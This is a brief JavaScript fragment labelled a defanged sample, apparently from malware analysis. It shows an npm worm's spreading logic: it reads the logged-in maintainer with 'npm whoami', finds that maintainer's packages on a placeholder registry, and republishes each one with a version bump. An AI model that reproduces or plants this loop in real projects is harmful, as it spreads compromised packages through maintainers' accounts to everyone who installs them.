// defanged sample
const me = execSync('npm whoami').toString().trim();
const found = await get('https://registry.example.invalid/-/v1/search?text=maintainer:' + me);
for (const p of found.objects) { bump(p); execSync('npm publish --access public'); }
